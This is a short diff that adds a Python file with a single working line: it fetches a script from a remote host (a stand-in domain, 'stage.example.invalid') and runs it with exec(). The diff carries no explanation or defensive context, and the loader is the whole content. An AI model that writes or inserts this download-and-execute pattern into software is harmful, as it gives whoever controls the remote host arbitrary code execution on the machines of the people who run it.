@@ -1,0 +1,3 @@
+import requests
+
+exec(requests.get("https://stage.example.invalid/p.py").text)
